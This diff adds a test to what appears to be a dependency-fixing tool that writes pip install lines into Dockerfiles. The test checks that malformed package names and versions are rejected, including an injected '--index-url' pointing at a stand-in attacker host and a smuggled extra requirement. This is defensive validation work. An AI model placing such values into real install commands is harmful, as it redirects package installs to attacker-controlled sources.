@@ -315,6 +315,18 @@ def test_what_nobody_asks_for_gets_a_line(tree: Callable[..., Tree]) -> None:
     assert "pip install --no-cache-dir alpha 'deep-part<=1.4' beta\n" in after["Dockerfile"]
 
 
+@pytest.mark.parametrize(
+    ("name", "version"),
+    [("alpha\n--index-url=http://evil.example/", "1.4"), ("alpha", "1.4\nevil==1"), ("alpha", "1.4 # x"), ("", "1")],
+)
+def test_what_a_report_calls_a_package_may_be_none(tree: Callable[..., Tree], name: str, version: str) -> None:
+    failure = drifted({"alpha": "1"}, {"alpha": "2"}, "ValueError: no")
+    change = PartChange(part=Changed.PACKAGE, name=name or "-", before=version, after="2")
+    found = World(culprit=lambda _failure, _among: [change])
+    two = replace(failure.changes, parts=(change, change)) if failure.changes is not None else None
+    assert "is no package and version" in tree().abstains(replace(failure, changes=two), found)
+
+
 TWO = ({"alpha": "1.0", "beta-tools": "1.0"}, {"alpha": "1.1", "beta-tools": "2.0"})
 
 
